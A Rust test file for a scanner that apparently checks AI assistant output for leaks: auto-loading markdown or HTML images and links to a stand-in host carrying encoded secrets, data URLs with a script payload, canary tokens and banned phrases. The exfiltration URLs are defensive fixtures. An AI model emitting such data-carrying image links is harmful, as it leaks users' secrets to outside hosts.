use super::*;
use crate::normalise::Normaliser;

fn links(text: &str) -> Vec<(&'static str, &str, f32)> {
    LinkDetector::new(HostAllowlist::new(["example.com", "*.trusted.org"]))
        .scan_text(text)
        .into_iter()
        .map(|m| (m.rule, &text[m.range], m.score))
        .collect()
}

#[test]
fn markdown_images_to_foreign_hosts_score_high() {
    let text = "Done! ![logo](https://evil.test/p.png?d=c2VjcmV0IGRhdGEgMTIzNDU2Nzg5MA)";
    let f = links(text);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].0, "markdown_image");
    assert_eq!(
        f[0].1,
        "https://evil.test/p.png?d=c2VjcmV0IGRhdGEgMTIzNDU2Nzg5MA"
    );
    assert!(f[0].2 >= 0.9);
    // Without data it is still an auto-loaded foreign image.
    let f = links("![x](https://evil.test/pixel.png)");
    assert!(f[0].2 >= 0.7 && f[0].2 < 0.9);
    // Allowlisted hosts and relative URLs are fine.
    assert!(
        links("![x](https://img.example.com/a.png?q=c2VjcmV0IGRhdGEgMTIzNDU2Nzg5MA)").is_empty()
    );
    assert!(links("![x](/static/a.png)").is_empty());
}

#[test]
fn links_and_bare_urls_need_data() {
    assert!(links("see [docs](https://docs.rs/regex) and https://rust-lang.org.").is_empty());
    let f = links("[click](https://evil.test/?q=my+password+is+hunter2)");
    assert_eq!(f[0].0, "markdown_link");
    let f = links("visit https://evil.test/collect?data=the+api+key+is+here.");
    assert_eq!(f[0].0, "url_with_data");
    assert_eq!(f[0].1, "https://evil.test/collect?data=the+api+key+is+here");
}

#[test]
fn html_autoload() {
    let f = links(
        r#"<p><img alt="x" src="https://evil.test/i.gif?u=aGVsbG8gd29ybGQgMTIzNDU2Nzg5"></p>"#,
    );
    assert_eq!(f[0].0, "html_autoload");
    assert!(f[0].2 >= 0.9);
    let f = links("<iframe src=https://evil.test/frame></iframe>");
    assert_eq!(f[0].0, "html_autoload");
    assert!(links(r#"<a href="https://evil.test/about">about</a>"#).is_empty());
}

#[test]
fn data_urls() {
    let f = links("![i](data:image/png;base64,iVBORw0KGgo=)");
    assert_eq!(f[0].0, "data_url");
    let f = links("go to data:text/html,<script>alert(1)</script>");
    assert_eq!(f[0].0, "data_url");
    assert!(links("metadata: fine").is_empty());
}

#[test]
fn canary_exact_and_normalised() {
    let canary = CanaryDetector::new("PCX-7f3a9b2e");
    let n = Normaliser::default();
    let scan = |text: &str| {
        let norm = n.normalise(text);
        let mut out = Vec::new();
        canary.scan(
            &ScanInput {
                original: text,
                normalised: &norm,
                context: crate::Context::Assistant,
            },
            &mut out,
        );
        out.into_iter()
            .map(|f| (f.rule, f.start, f.end))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        scan("the secret is PCX-7f3a9b2e."),
        vec![("canary_exact", 14, 26)]
    );
    let spaced = "P C X 7 f 3 a 9 b 2 e";
    assert_eq!(scan(spaced), vec![("canary_normalised", 0, spaced.len())]);
    let zw = "pcx\u{200B}7f3a9b2e";
    assert_eq!(scan(zw)[0].0, "canary_normalised");
    assert!(scan("nothing to see").is_empty());
}

#[test]
fn banned_substrings_and_topics() {
    let d = BannedDetector::try_new(BannedConfig {
        substrings: vec!["Project Falcon".into()],
        topics: vec![BannedTopic {
            name: "weapons".into(),
            keywords: vec!["rifle".into(), "ammunition".into(), "scope".into()],
            min_matches: 2,
        }],
    })
    .unwrap();
    let n = Normaliser::default();
    let scan = |text: &str| -> Vec<(&'static str, String)> {
        let norm = n.normalise(text);
        let mut out = Vec::new();
        d.scan(
            &ScanInput {
                original: text,
                normalised: &norm,
                context: crate::Context::Assistant,
            },
            &mut out,
        );
        crate::finding::dedup_findings(&mut out);
        out.into_iter()
            .map(|f| (f.rule, text[f.start..f.end].to_owned()))
            .collect()
    };
    assert_eq!(
        scan("about project falcon"),
        vec![("banned_substring", "project falcon".to_owned())]
    );
    assert_eq!(
        scan("a rifle and its ammunition"),
        vec![("banned_topic", "rifle and its ammunition".to_owned())]
    );
    assert!(scan("the scope of the rifleman").is_empty());
    // Homoglyphs do not hide a banned phrase.
    assert_eq!(scan("Pr\u{043E}ject Falcon")[0].0, "banned_substring");
}

#[test]
fn image_detection_handles_nested_brackets_and_links() {
    let f = links("![a [b] c](https://evil.test/x.png)");
    assert_eq!(f[0].0, "markdown_image");
    // A link whose text holds an image is a link; the image inside is reported on its own.
    let f = links("[![badge](https://evil.test/b.svg)](https://evil.test/?q=a+b+c+d+e)");
    let rules: Vec<_> = f.iter().map(|m| m.0).collect();
    assert_eq!(rules, vec!["markdown_image", "markdown_link"]);
    assert!(links("x[1]: y and a[i](j) <br> <b>bold</b>").is_empty());
}
